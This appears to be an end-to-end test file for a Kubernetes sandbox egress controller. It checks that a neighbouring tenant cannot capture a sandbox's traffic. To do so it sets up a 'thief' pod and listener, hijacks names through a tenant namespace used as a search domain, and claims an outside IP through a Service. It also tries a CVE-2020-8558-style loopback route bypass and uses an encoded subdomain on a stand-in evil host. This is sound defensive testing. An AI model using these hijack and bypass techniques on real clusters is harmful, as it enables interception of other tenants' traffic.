// What a tenant beside a sandbox sets up for it on the cluster, and what those who decide on its requests do not do.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Sandbox } from '../../crds/schema/sandbox.ts';
import { runCommand } from '../cluster/base/run-command.ts';
import { waitUntil } from '../cluster/base/wait-until.ts';
import { currentCluster } from '../cluster/current-cluster.ts';
import { nodeLayoutOf } from '../cluster/embedded/layout.ts';
import { defaultAddress } from '../outside/control-protocol.ts';
import { type CreelUnderTest, creelUnderTest } from './creel-under-test.ts';
import { fetchInside } from './fetch-inside.ts';
import { createLookupRecorder } from './record-lookups.ts';
import { runCreel } from './run-creel.ts';
import { outcomeOf, type Ran, SandboxNamespace } from './sandbox-namespace.ts';

const cluster = currentCluster();
const namespace = new SandboxNamespace(cluster, `e2e-neighbours-${process.pid}`);
/** As a tenant may call its namespace: with a Service `github` it owns `github.com` of every search domain. */
const tenant = 'com';
const victim = '93.184.215.77';
let creel: CreelUnderTest;

const fetch = (url: string) => fetchInside(namespace, 'agent', url);
const inTenant = (script: string): Promise<Ran> =>
  outcomeOf(cluster.kubectl(['--namespace', tenant, 'exec', 'thief', '--', 'sh', '-c', script]));
const stolen = async () => (await inTenant('cat /tmp/stolen')).stdout;

const listenForAnything = `import socket, threading
def serve(port):
  s = socket.create_server(('0.0.0.0', port))
  while True:
    c, who = s.accept()
    open('/tmp/stolen', 'a').write(f'{who[0]} {port}\\n')
    c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nstolen'); c.close()
open('/tmp/stolen', 'w').close()
for port in (8080, 8443): threading.Thread(target=serve, args=(port,)).start()`;

const service = (name: string, spec: object) => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name, namespace: tenant },
  spec: {
    selector: { app: 'thief' },
    ports: [
      { name: 'http', port: 80, targetPort: 8080 },
      { name: 'https', port: 443, targetPort: 8443 },
    ],
    ...spec,
  },
});
const to = (host: string) => [{ host, ports: [80, 443] }];
const readyOf = ({ status }: Sandbox) => status?.conditions?.find(({ type }) => type === 'Ready');
const reachesVictim = async () => ((await fetch('http://victim.example.org/')).status === 200 ? true : undefined);
const apply = (object: object) => cluster.kubectl(['apply', '--filename=-'], { stdin: JSON.stringify(object) });

beforeAll(async () => {
  creel = await creelUnderTest();
  await creel.outside.reset();
  await creel.outside.setZone({ '*': { addresses: [defaultAddress] }, 'victim.example.org': { addresses: [victim] } });
  await apply({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: tenant } });
  await apply({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'thief', namespace: tenant, labels: { app: 'thief' } },
    spec: {
      containers: [
        { name: 'thief', image: 'creel.local/agent-tools:dev', command: ['python3', '-c', listenForAnything] },
      ],
    },
  });
  await apply(service('github', {}));
  await namespace.create();
  const http = { access: 'ReadOnly' };
  await namespace.apply({
    apiVersion: 'creel.dev/v1alpha1',
    kind: 'EgressPolicy',
    metadata: { name: 'listed', namespace: namespace.name },
    spec: {
      sandboxSelector: { matchLabels: {} },
      allow: [
        { name: 'github', to: to('github.com'), protocol: 'HTTP', http },
        { name: 'victim', to: to('victim.example.org'), protocol: 'HTTP', http },
      ],
    },
  });
  await namespace.applySandbox('agent');
  await namespace.waitForCondition('csb', 'agent', 'Ready', 'True', 120_000);
  await namespace.waitForCondition('csb', 'agent', 'NetworkPolicyEnforced', 'True', 60_000);
  await cluster.kubectl(['-n', tenant, 'wait', 'pod/thief', '--for=condition=Ready', '--timeout=60s']);
});
afterAll(async () => {
  await cluster.kubectl(['delete', 'namespace', tenant, '--ignore-not-found', '--wait=false']);
  await namespace.delete();
});

test('D11 a search domain that a tenant owns is not looked in', async () => {
  // Control: every other pod is led to the tenant's Service.
  const clusterIp = JSON.parse(await cluster.kubectl(['-n', tenant, 'get', 'service', 'github', '--output=json'])).spec
    .clusterIP as string;
  expect((await inTenant('getent ahostsv4 github.com')).stdout).toContain(clusterIp);
  for (const url of ['https://github.com/', 'http://github.com/']) expect((await fetch(url)).status).toBe(200);
  const requests = await creel.outside.requests(({ host }) => host === 'github.com');
  expect(requests.map(({ scheme }) => scheme)).toEqual(['https', 'http']);
  expect(await stolen()).toBe('');
});

test('N28 a Service that claims an outside address gets nothing of what a sandbox sends there, nor does its node port', async () => {
  await apply(service('claims', { externalIPs: [victim] }));
  await apply(service('node-port', { type: 'NodePort' }));
  // Control: other pods are led astray, and the node port answers them.
  const claimed = async () =>
    (await inTenant(`curl -s -m 3 http://${victim}/`)).stdout === 'stolen' ? true : undefined;
  await waitUntil(claimed, { what: 'the claim to hold', timeoutMs: 30_000, intervalMs: 300 });
  const { spec } = JSON.parse(
    await cluster.kubectl(['-n', tenant, 'get', 'service', 'node-port', '--output=json']),
  ) as {
    spec: { ports: { nodePort: number }[] };
  };
  const nodes = JSON.parse(await cluster.kubectl(['get', 'nodes', '--output=json'])) as {
    items: { status: { addresses: { type: string; address: string }[] } }[];
  };
  const node = nodes.items[0]?.status.addresses.find(({ type }) => type === 'InternalIP')?.address ?? '';
  const nodePort = `${node}:${spec.ports[0]?.nodePort}`;
  expect((await inTenant(`curl -s -m 3 http://${nodePort}/`)).stdout).toBe('stolen');
  const before = await stolen();

  for (const url of ['http://victim.example.org/', 'https://victim.example.org/', `http://${nodePort}/`])
    expect((await fetch(url)).body, url).not.toContain('stolen');
  expect(await stolen()).toBe(before);
  await cluster.kubectl(['-n', tenant, 'delete', 'service', 'claims', 'node-port']);
  await waitUntil(reachesVictim, { what: 'the address to be its owner’s again', timeoutMs: 30_000, intervalMs: 300 });
  expect(await stolen()).toBe(before);
});

test('N29 services that the node has on its own loopback are not reached from a sandbox', async () => {
  const url = 'http://127.0.0.1:10248/healthz';
  const { netns } = nodeLayoutOf(cluster.layout, 1);
  expect(await runCommand(['ip', 'netns', 'exec', netns, 'curl', '-s', '-m', '5', url])).toBe('ok');
  const device = '$(ip -o route show default | sed "s/.* dev //;s/ .*//")';
  const ways = [
    `curl -s -m 5 ${url}`,
    `curl -s -m 5 --interface ${device} ${url}`,
    `curl -s -m 5 http://localhost:10248/healthz`,
    // Through the wire by a route of its own, as CVE-2020-8558 had it.
    `ip route replace 127.0.0.0/8 via $(ip -o route show default | sed "s/.* via //;s/ .*//"); curl -s -m 5 ${url}`,
  ];
  for (const way of ways) expect((await namespace.inside('agent', way)).stdout, way).not.toContain('ok');
});

test('N52 with a user namespace required, the fence is proved in it or the sandbox does not run', async () => {
  await namespace.applySandbox('mapped', { process: { userNamespace: 'Required' } });
  const settled = await namespace.waitForSandbox(
    'mapped',
    'to run or to say why not',
    ({ status }) =>
      status?.conditions?.some(
        ({ type, status: value, reason }) =>
          type === 'Ready' && (value === 'True' || ['PodFailed', 'ContainerFailed', 'CannotStart'].includes(reason)),
      ) === true,
    90_000,
  );
  process.stderr.write(`N52: ${JSON.stringify(readyOf(settled))}\n`);
  if (readyOf(settled)?.status !== 'True') return expect(readyOf(settled)?.message).toMatch(/user ?namespace/i);
  const { stdout } = await namespace.inside('mapped', 'id -u; cat /proc/self/uid_map');
  expect(stdout).toMatch(/^1000\n\s+0\s+[1-9]\d+\s+65536\n/);
  const through = (url: string) => fetchInside(namespace, 'mapped', url);
  expect((await through('https://github.com/')).status).toBe(200);
  const before = (await creel.outside.connections()).length;
  const refused = await through('https://elsewhere.example.org/');
  expect(refused.status).toBe(403);
  const around = await namespace.inside(
    'mapped',
    `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('${victim}', 9999))"`,
  );
  expect(around.stderr).toMatch(/PermissionError|Operation not permitted/);
  expect((await creel.outside.connections()).length).toBe(before);
});

test('D02 a name on its way to those who decide is resolved by none of them', async () => {
  const host = 'mfrggzdfmztwq2lk.evil.example.org';
  const folder = mkdtempSync(join(tmpdir(), 'cr-lookups-'));
  const recorder = createLookupRecorder(folder);
  try {
    const refused = await fetch(`https://${host}/`);
    expect(refused.status).toBe(403);
    const { approval } = JSON.parse(refused.body) as { approval: string };
    await namespace.waitForRequest(({ metadata }) => metadata.name === approval, 'the request');
    const creelCommand = (...args: string[]) =>
      runCreel(creel.cluster.kubeconfigPath, namespace.name, args, recorder.env);
    expect((await creelCommand('approvals')).stdout).toContain(host);
    expect((await creelCommand('describe', `apr/${approval}`)).stdout).toContain(host);
    await namespace.kubectl(['get', 'apr', approval, '--output=yaml']);
    await namespace.kubectl(['describe', 'apr', approval]);
    const approved = await creelCommand('approve', approval, '--for', '5m');
    expect(approved.stderr).toBe('');
    await namespace.waitForRequest(
      ({ metadata, status }) => metadata.name === approval && status?.phase === 'Enforced',
      'the approval to be enforced',
    );
    expect(await creel.outside.countDnsQueries(host)).toBe(0);
    expect(readFileSync(recorder.file, 'utf8')).not.toContain(host);
    // Control: once it is allowed and asked for, it is looked up; and the recorder records.
    expect((await fetch(`https://${host}/`)).status).toBe(200);
    expect(await creel.outside.countDnsQueries(host)).toBeGreaterThan(0);
    const lookUp = `import('node:dns').then(dns => dns.lookup('${host}', () => undefined))`;
    await runCommand([process.execPath, '-e', lookUp], { env: { PATH: '', ...recorder.env } });
    expect(readFileSync(recorder.file, 'utf8')).toContain(host);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
